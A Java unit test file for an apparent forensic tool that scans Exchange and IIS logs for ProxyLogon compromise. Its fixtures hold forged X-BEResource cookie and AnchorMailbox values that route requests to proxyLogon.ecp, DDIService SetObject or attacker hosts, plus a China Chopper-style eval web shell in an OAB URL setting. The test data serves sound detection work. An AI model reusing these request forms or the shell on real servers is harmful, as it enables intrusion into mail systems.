package org.wachtpost.inspect;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.nio.charset.Charset;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.wachtpost.inspect.model.Confidence;
import org.wachtpost.inspect.model.Finding;
import org.wachtpost.inspect.model.InspectReport;
import org.wachtpost.inspect.model.Stage;
import org.wachtpost.inspect.model.Verdict;

/** Single rows as they are in the field, where our own generator writes them otherwise. */
class FieldRowsTest {
  private static final String PROXY = "V15/Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG";
  private static final String PROXY_FIELDS =
      "#Software: Microsoft Exchange Server\r\n#Log-type: HttpProxy Logs\r\n"
          + "#Fields: DateTime,UrlStem,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,"
          + "HttpStatus,Method,TargetServer,RoutingHint\r\n";
  private static final String IIS_FIELDS =
      "#Software: Microsoft Internet Information Services 10.0\r\n#Fields: date time s-ip"
          + " cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status";
  private static final String CONTROL_PANEL =
      "#Software: Microsoft Exchange Server\r\n#Log-type: ECP Server Log\r\n"
          + "#Fields: TimeStamp,ServerName,EventId,EventData\r\n";

  @TempDir Path folder;

  private InspectReport of(String path, String content) throws Exception {
    Path file = folder.resolve("server").resolve(path);
    Files.createDirectories(file.getParent());
    Files.writeString(file, content);
    return Inspection.run(
        InspectOptions.of(List.of(folder.resolve("server")), Instant.parse("2026-01-01T00:00:00Z")),
        ProgressListener.NONE);
  }

  /** A piece of a log that somebody exported by PowerShell: its mark stands in another piece. */
  @ParameterizedTest
  @ValueSource(strings = {"UTF-16", "UTF-16LE", "UTF-16BE"})
  void aLogIsReadInWhateverFormOfUtf16(String charset) throws Exception {
    Path file = folder.resolve("server").resolve(PROXY);
    Files.createDirectories(file.getParent());
    String row =
        "2021-03-03T06:49:12.123Z,/ecp/y.js,ServerInfo~a]@EX01:444/ecp/proxyLogon.ecp?#,"
            + "M\u00fcller,203.0.113.9,EX01,241,POST,EX01,X-BEResource-Cookie\r\n";
    Files.write(file, (PROXY_FIELDS + row).getBytes(Charset.forName(charset)));
    assertThat(of("empty.txt", "").findings())
        .singleElement()
        .matches(one -> one.stage() == Stage.SESSION_GRANTED)
        .matches(one -> "M\u00fcller".equals(one.detail("userAgent")));
  }

  private Finding forged(String anchor, String target, String status) throws Exception {
    InspectReport report =
        of(
            PROXY,
            PROXY_FIELDS
                + "2021-03-03T06:49:12.123Z,/ecp/y.js,"
                + anchor
                + ",Mozilla/5.0,203.0.113.9,EX01,"
                + status
                + ",POST,"
                + target
                + ",X-BEResource-Cookie\r\n");
    assertThat(report.findings()).hasSize(1);
    return report.findings().getFirst();
  }

  private InspectReport iis(String more, String row) throws Exception {
    return of(
        "C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log",
        IIS_FIELDS + more + "\r\n2021-03-03 06:49:12 10.0.0.5 " + row + "\r\n");
  }

  /** What a scanner sends that only wants the name of the server: there is no path in it. */
  @ParameterizedTest
  @ValueSource(strings = {"ServerInfo~localhost", "ServerInfo~localhost~1942062522"})
  void aForgedTargetWithoutAPathIsStillAProbe(String anchor) throws Exception {
    Finding finding = forged(anchor, "", "500");
    assertThat(finding.check()).isEqualTo("I04");
    assertThat(finding.stage()).isEqualTo(Stage.PROBED);
    assertThat(finding.confidence()).isEqualTo(Confidence.MEDIUM);
  }

  /** Any of the organisation's servers forwards, to any of them; the logs know short names. */
  @ParameterizedTest
  @CsvSource({
    "/ecp/proxyLogon.ecp?#, 241, SESSION_GRANTED",
    "/ecp/proxyLogon.ecp?#, 500, ATTEMPTED",
    "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory#, 200, WRITTEN",
    "/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#, 200, WRITTEN",
    "/EWS/Exchange.asmx?#, 200, AFTER",
    "/anything?#, 200, ATTEMPTED"
  })
  void anotherServerOfTheOrganisationIsNoForeignHost(String path, String status, Stage stage)
      throws Exception {
    Finding finding = forged("ServerInfo~a]@EX02.corp.test:444" + path, "EX02.corp.test", status);
    assertThat(finding.stage()).isEqualTo(stage);
    assertThat(finding.title().contains("foreign")).isEqualTo(path.startsWith("/anything"));
  }

  @Test
  void aHostThatOnlyListensForCallsIsAProbeOnAnyPort() throws Exception {
    String host = "x1.burpcollaborator.net";
    Finding finding = forged("ServerInfo~a]@" + host + ":444/ecp/proxyLogon.ecp?#", host, "200");
    assertThat(finding.stage()).isEqualTo(Stage.PROBED);
  }

  @ParameterizedTest
  @CsvSource({
    "/EWS/Exchange.asmx, 200, AFTER",
    "/EWS/Exchange.asmx, 401, PROBED",
    "/%65ws/Exchange.asmx, 200, AFTER",
    "//EWS/Exchange.asmx, 200, AFTER",
    "/ecp//proxyLogon.ecp?, 241, SESSION_GRANTED",
    "/ecp/%70roxyLogon.ecp?, 241, SESSION_GRANTED",
    "/ecp/DDI/DDIService.svc/%53etObject?schema=OABVirtualDirectory, 200, WRITTEN",
    "/whatever.ecp?, 241, SESSION_GRANTED",
    "\\ecp\\proxyLogon.ecp?, 241, SESSION_GRANTED",
    "/x/../EWS/Exchange.asmx, 200, AFTER",
    "/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory, 200, SESSION_GRANTED",
    "/ecp/default.flt?, 500, PROBED"
  })
  void mailReadThroughTheServersOwnNameIsRead(String path, String status, Stage stage)
      throws Exception {
    assertThat(forged("ServerInfo~a]@localhost:444" + path + "#", "localhost", status).stage())
        .isEqualTo(stage);
  }

  /** Anybody may name a host so; what is asked of it goes out. */
  @Test
  void aNameThatBeginsLikeTheServersOwnAddressIsAForeignHost() throws Exception {
    String host = "127.0.0.1.attacker.test";
    assertThat(forged("ServerInfo~a]@" + host + "/x?#", host, "200").stage())
        .isEqualTo(Stage.ATTEMPTED);
  }

  @Test
  void aNewVirtualDirectoryMayBringTheShellWithIt() throws Exception {
    InspectReport report =
        of(
            "V15/Logging/ECP/Server/ECPServer20210303-1.LOG",
            CONTROL_PANEL
                + "2021-03-03T06:49:15.100Z,EX01,Request,\"S:TIME=2;'S:CMD=New-OabVirtualDirectory"
                + ".ExternalUrl=''http://f/<script runat=\"\"server\"\">function Page_Load(){eval("
                + "Request[\"\"x\"\"],\"\"unsafe\"\");}</script>''';S:REQID=\"\r\n");
    assertThat(report.verdict()).isEqualTo(Verdict.COMPROMISED);
    assertThat(report.findings()).singleElement().matches(Finding::decisive);
  }

  /** Many a server is called mail or ex01, and its own address has no dot. */
  @ParameterizedTest
  @ValueSource(
      strings = {"https://mail/owa", "http://ex01/OAB", "https://ex1/EWS/Exchange.asmx", "$null"})
  void aShortNameWithExchangesPathIsAnAdministrators(String address) throws Exception {
    InspectReport report =
        of(
            "V15/Logging/ECP/Server/ECPServer20210303-1.LOG",
            CONTROL_PANEL
                + "2021-03-03T06:49:15.100Z,EX01,Request,S:TIME=2;'S:CMD=Set-OabVirtualDirectory"
                + ".InternalUrl=''"
                + address
                + "''.Identity=''x''';S:REQID=\r\n");
    assertThat(report.findings()).isEmpty();
    assertThat(
            of(
                    "oab.txt",
                    "Name : OAB (Default Web Site)\r\nOfflineAddressBooks : {\\Default}\r\n"
                        + "InternalUrl                   : "
                        + address
                        + "\r\nInternalAuthenticationMethods : {WindowsIntegrated}\r\n"
                        + "ExternalUrl                   :\r\n")
                .findings())
        .isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {"http://f/", "http://o/OAB", "http://ffff/#", "https://ooo/x"})
  void aMadeUpHostIsStillTold(String address) throws Exception {
    InspectReport report =
        of(
            "oab.txt",
            "Name : OAB (Default Web Site)\r\nOfflineAddressBooks : {\\Default}\r\n"
                + "ExternalUrl                   : "
                + address
                + "\r\nInternalAuthenticationMethods : {WindowsIntegrated}\r\n");
    assertThat(report.verdict()).isEqualTo(Verdict.COMPROMISED);
  }

  /** What Export-Csv makes of the same settings. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "http://f/<script runat=\"\"server\"\">eval(Request[\"\"a\"\"],\"\"unsafe\"\")</script>|1",
        "http://f/|1",
        "https://mail.example.test/OAB|0"
      })
  void settingsInATableAreLookedThroughByTheirColumns(String address, int found) throws Exception {
    List<Finding> findings =
        of(
                "oab.csv",
                "#TYPE Deserialized.OABVirtualDirectory\r\n\"Name\",\"OfflineAddressBooks\","
                    + "\"InternalUrl\",\"ExternalUrl\",\"InternalAuthenticationMethods\"\r\n"
                    + "\"OAB, default\",\"\\Default\",\"http://ex01/OAB\",\""
                    + address
                    + "\",\"x\"\r\n")
            .findings();
    assertThat(findings).filteredOn(one -> one.check().equals("I09")).hasSize(found);
    assertThat(findings).allMatch(one -> found > 0);
  }

  @ParameterizedTest
  @CsvSource({
    "/aspnet_client/a.7z, 200, 1",
    "/owa/auth/x/lsass.dmp, 206, 1",
    "/it.zip, 200, 1",
    "/it.zip, 404, 0",
    "/owa/attachments/it.zip, 200, 0"
  })
  void whatIntrudersFetchedIsTold(String stem, int status, int found) throws Exception {
    List<Finding> findings =
        iis("", "GET " + stem + " - 443 - 203.0.113.9 Mozilla " + status).findings();
    assertThat(findings).hasSize(found).allMatch(one -> one.stage() == Stage.AFTER);
  }

  /** Administrators offer a program for downloading there; nobody offers a dump. */
  @ParameterizedTest
  @CsvSource({"/vpnclient.zip, LOW", "/aspnet_client/a.zip, MEDIUM", "/lsass.dmp, MEDIUM"})
  void anArchiveInTheSitesRootMayBeTheOrganisations(String stem, Confidence confidence)
      throws Exception {
    assertThat(iis("", "GET " + stem + " - 443 - 203.0.113.9 Mozilla 200").findings())
        .singleElement()
        .matches(one -> one.confidence() == confidence);
  }

  /** Where no proxy stands before the server, whoever asks writes that column. */
  @ParameterizedTest
  @CsvSource({
    "GET /aspnet_client/a.7z - 443 - 203.0.113.9 Mozilla 200, 127.0.0.1, 1",
    "POST /aspnet_client/x.aspx - 443 - 203.0.113.9 Mozilla 500, ::1, 1",
    "GET /aspnet_client/a.7z - 443 - 127.0.0.1 Mozilla 200, -, 0",
    "GET /aspnet_client/a.7z - 443 - 127.0.0.1 Mozilla 200, 203.0.113.9, 1"
  })
  void whoCallsHimselfTheServerIsNotBelieved(String row, String forwarded, int found)
      throws Exception {
    assertThat(iis(" X-Forwarded-For", row + " " + forwarded).findings()).hasSize(found);
  }

  @Test
  void anAddressBookLogIsKnownOutsideItsFolder() throws Exception {
    String line =
        "2021-03-03T06:50:00.123Z,1,Download failed and temporary file"
            + " 'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be removed\r\n";
    assertThat(of("dropped/log1.txt", line).verdict()).isEqualTo(Verdict.COMPROMISED);
  }

  @Test
  void anAddressBookLogIsKnownByItsNameOrHead() throws Exception {
    String late = "2021-03-03T06:50:00.123Z,1,ordinary\r\n".repeat(400);
    String line =
        "2021-03-03T07:50:00.123Z,1,Download failed and temporary file"
            + " 'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be removed\r\n";
    assertThat(of("dropped/OABGenerator_2021.log", late + line).verdict())
        .isEqualTo(Verdict.COMPROMISED);
  }

  /** Our own instructions name such a script; it holds the words that it looks for. */
  @Test
  void aScriptThatLooksForTheWordsIsNoLog() throws Exception {
    InspectReport report =
        of(
            "tools/check.ps1",
            "Select-String \"Download failed and temporary file\" $f\r\n# Download failed and"
                + " temporary file 'C:\\x.aspx' needs to be removed\r\n");
    assertThat(report.findings()).isEmpty();
  }

  @ParameterizedTest
  @CsvSource({
    "-, 203.0.113.9",
    "'198.51.100.4', 198.51.100.4",
    "'1.2.3.4,+198.51.100.4:5512', 198.51.100.4",
    "'198.51.100.4,+10.1.1.1', 198.51.100.4",
    "'10.7.7.7,+10.1.1.1', 10.7.7.7",
    "'[2001:db8::7]:443', 2001:db8::7"
  })
  void aProxySaysForWhomItAsksAndClientsMakeUpTheRest(String forwarded, String client)
      throws Exception {
    Finding finding =
        iis(
                " X-Forwarded-For",
                "POST /aspnet_client/x1.aspx - 443 - 203.0.113.9 Mozilla 200 " + forwarded)
            .findings()
            .getFirst();
    assertThat(finding.check()).isEqualTo("I14");
    assertThat(finding.detail("client")).isEqualTo(client);
  }

  @Test
  void aPublishedAddressIsSeenOnEitherSideOfAProxy() throws Exception {
    String published = "103.77.192.219";
    for (String row :
        List.of(
            "GET /owa/ - 443 - " + published + " Mozilla 200 -",
            "GET /owa/ - 443 - 10.0.0.1 Mozilla 200 1.1.1.1,+" + published)) {
      assertThat(iis(" X-Forwarded-For", row).findings())
          .as(row)
          .singleElement()
          .matches(one -> one.check().equals("I15") && published.equals(one.detail("client")));
    }
  }

  /** The one trace of CVE-2021-27065 in a log that is not deleted after 30 days. */
  @ParameterizedTest
  @CsvSource({
    "ResetOABVirtualDirectory, EXAMPLE\\EX01$, 200, WRITTEN, HIGH",
    "ResetOABVirtualDirectory, EXAMPLE\\EX01$, 500, ATTEMPTED, HIGH",
    "OABVirtualDirectory, EXAMPLE\\EX01$, 200, WRITTEN, MEDIUM"
  })
  void theServersOwnAccountChangesNoSettings(
      String schema, String user, int status, Stage stage, Confidence confidence) throws Exception {
    Finding finding =
        iis(
                "",
                "POST /ecp/DDI/DDIService.svc/SetObject msExchEcpCanary=abcdefgh1&schema="
                    + schema
                    + " 444 "
                    + user
                    + " fe80::1%6 Mozilla "
                    + status)
            .findings()
            .getFirst();
    assertThat(finding.stage()).isEqualTo(stage);
    assertThat(finding.confidence()).isEqualTo(confidence);
    assertThat(finding.detail("canary")).isEqualTo("abcdefgh1");
  }

  @Test
  void anAdministratorChangesSettings() throws Exception {
    String asked = "POST /ecp/DDI/DDIService.svc/SetObject schema=ResetOABVirtualDirectory 444 ";
    assertThat(iis("", asked + "EXAMPLE\\ann 10.0.0.7 Mozilla 200").findings()).isEmpty();
    assertThat(iis("", asked + "- 10.0.0.7 Mozilla 200").findings()).isEmpty();
  }

  /** Where cookies are logged, the one log that lasts shows where a forged request went. */
  @ParameterizedTest
  @CsvSource({
    "X-BEResource=a]@EX01:444/ecp/proxyLogon.ecp?#~1941962753, 241, SESSION_GRANTED",
    "X-BEResource=a]@EX01:444/autodiscover/autodiscover.xml?#~1, 200, ATTEMPTED",
    "b=1;+X-BEResource=a]@EX01:444/ecp/DDI/DDIService.svc/SetObject?schema=x#~1, 200, WRITTEN",
    "X-AnonResource=true;+X-AnonResource-Backend=localhost/ecp/default.flt?~3, 500, ATTEMPTED",
    "X-BEResource=EX01:444\\ecp\\DDI\\DDIService.svc\\SetObject?a#~1, 200, WRITTEN",
    "X-BEResource=attacker.test?#~1941962753, 200, ATTEMPTED",
    "X-BEResource=a]@attacker.test:443#~1941962753, 200, ATTEMPTED",
    "X-BEResource=EX01.corp.test~1941962753;+b=/x, 200,",
    "X-BEResource=EX01.corp.test~1941962753, 200,"
  })
  void aCookieNamesTheForgedTarget(String cookie, String status, Stage stage) throws Exception {
    List<Finding> findings =
        iis(
                " cs(Cookie)",
                "POST /ecp/default.aspx - 443 - 203.0.113.9 Mozilla " + status + " " + cookie)
            .findings();
    assertThat(findings).hasSize(stage == null ? 0 : 1);
    assertThat(findings).allMatch(one -> one.stage() == stage);
  }

  @Test
  void aLongCookieIsLookedThroughOnce() throws Exception {
    String cookie = "X-BEResource=".repeat(75_000);
    assertTimeoutPreemptively(
        Duration.ofSeconds(30),
        () ->
            assertThat(
                    iis(" cs(Cookie)", "GET / - 443 - 203.0.113.9 Mozilla 200 " + cookie)
                        .findings())
                .isEmpty());
  }

  /** Addresses of 16 KiB are taken by any server, and what is asked for is the asker's choice. */
  @Test
  void aLongAddressIsLookedThroughOnce() throws Exception {
    String asked = "/autodiscover/autodiscover.json " + "autodiscover.json@".repeat(50_000);
    assertTimeoutPreemptively(
        Duration.ofSeconds(30),
        () ->
            assertThat(iis("", "GET " + asked + " 443 - 203.0.113.9 Mozilla 200").findings())
                .isEmpty());
    assertThat(iis("", "GET " + asked + "/powershell/ 443 - 203.0.113.9 Mozilla 200").findings())
        .singleElement()
        .matches(one -> one.stage() == Stage.SESSION_GRANTED);
  }

  /** Other formats of IIS, and what is left of a log whose head is gone: told of, never guessed. */
  @ParameterizedTest
  @CsvSource({
    "C/inetpub/logs/LogFiles/W3SVC1/in210303.log, '10.0.0.7, -, 3/3/2021, 6:49:12, W3SVC1, EX01'",
    "dropped/nc210303.log, '10.0.0.7 - - [03/Mar/2021:06:49:12 +0100] \"GET / HTTP/1.1\" 200 3'",
    "C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log, 2021-03-03 06:49:12 10.0.0.5 GET / - 443 -",
    "V15/Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG, '2021-03-03T06:49:12Z,r,15,1,2106,2'",
    "V15/Logging/ECP/Server/ECPServer20210303-1.LOG, '2021-03-03T06:49:12Z,EX01,Request,S:X=1'"
  })
  void aLogWithoutTheNamesOfItsColumnsIsToldOf(String path, String row) throws Exception {
    InspectReport report = of(path, row + "\r\n");
    assertThat(report.coverage().damage())
        .singleElement()
        .matches(one -> one.path().endsWith(path) && one.what().endsWith("cut off): not read"));
    assertThat(report.verdict()).isEqualTo(Verdict.CANNOT_TELL);
  }

  @ParameterizedTest
  @CsvSource({
    "/owa/auth/Current/, ATTEMPTED, MEDIUM",
    "/ecp/averylongmadeupname.js, ATTEMPTED, MEDIUM",
    "/ecp/x1.aspx, SHELL_USED, LOW",
    "/owa/x1.aspx, SHELL_USED, LOW"
  })
  void aPostToWhatTakesNoneIsTold(String stem, Stage stage, Confidence confidence)
      throws Exception {
    Finding finding =
        iis("", "POST " + stem + " - 443 - 203.0.113.9 Mozilla 200").findings().getFirst();
    assertThat(finding.stage()).isEqualTo(stage);
    assertThat(finding.confidence()).isEqualTo(confidence);
    for (String own : List.of("/ecp/default.aspx", "/owa/redir.aspx")) {
      assertThat(iis("", "GET " + own + " - 443 - 203.0.113.9 Mozilla 200").findings()).isEmpty();
    }
  }
}
